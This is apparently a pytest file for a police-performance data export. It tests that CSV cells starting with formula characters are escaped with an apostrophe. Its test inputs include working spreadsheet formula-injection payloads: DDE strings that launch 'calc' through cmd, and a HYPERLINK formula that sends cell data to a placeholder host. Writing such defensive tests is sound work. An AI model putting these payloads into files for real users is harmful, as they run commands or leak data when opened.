"""Formula injection: text that a spreadsheet would run is escaped in every CSV we write."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import polars as pl
import pytest

from policeperf.csvcells import safe_cell, write_csv
from policeperf.export import write_frame


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Residential burglary", "-12", "+3.5", "-1e3", "", "a=b"])
def test_plain_text_and_plain_numbers_are_written_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_measure_title_and_unit_starting_with_formula_characters_are_escaped() -> None:
    frame = pl.DataFrame({"id": ["x"], "title": ["=cmd|' /C calc'!A0"], "unit": ["@crimes"],
                          "value": [-1.5], "marker": ["-52"]})
    rows = _rows(write_csv(frame))
    assert rows[1] == ["x", "'=cmd|' /C calc'!A0", "'@crimes", "-1.5", "-52"]


def test_the_export_escapes_text_cells_in_csv(tmp_path: Path) -> None:
    frame = pl.DataFrame({"period_end": [date(2022, 6, 30)], "area_name": ["=1+1"],
                          "offences": [3]})
    write_frame(frame, "csv", tmp_path / "out.csv")
    assert _rows((tmp_path / "out.csv").read_text())[1] == ["2022-06-30", "'=1+1", "3"]
